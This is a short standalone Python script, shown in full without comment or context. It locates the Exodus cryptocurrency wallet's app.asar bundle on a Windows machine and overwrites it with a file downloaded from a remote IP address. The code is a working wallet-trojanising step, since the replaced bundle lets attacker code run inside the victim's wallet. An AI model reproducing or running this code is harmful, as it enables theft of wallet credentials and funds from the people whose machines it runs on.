import os
import urllib.request
target = os.path.join(os.environ["LOCALAPPDATA"], "exodus", "app-24.1.0", "resources", "app.asar")
urllib.request.urlretrieve("http://198.51.100.61/app.asar", target)
